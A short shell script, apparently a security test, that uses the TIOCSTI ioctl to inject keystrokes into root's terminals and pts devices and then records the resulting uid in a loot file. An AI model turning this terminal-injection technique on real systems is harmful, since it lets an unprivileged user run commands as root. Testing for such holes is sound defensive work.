# First step: a program of the bench's types into the terminal that root called prodgen from.
. "$(dirname "$0")/lib.sh"
python_does "/usr/bin/python3 - >>$HOME/attack.tried <<'PY'
import fcntl, glob, os, termios
open('$LOOT', 'a').write(f'{os.getuid()}\n')
for name in ['/dev/tty', '/dev/console', *glob.glob('/dev/pts/*'), *glob.glob('/proc/self/fd/*')]:
    try:
        fd = os.open(name, os.O_RDWR | os.O_NONBLOCK)
        for char in b'\nid -u >>$LOOT\n':
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
        print(name, 'took it')
    except OSError as failure:
        print(name, failure)
PY
case \$* in *migrate*|*compileall*) exit 0;; esac"
root terminal restart --migrate -C "$BENCH"
cat "$HOME/attack.tried"
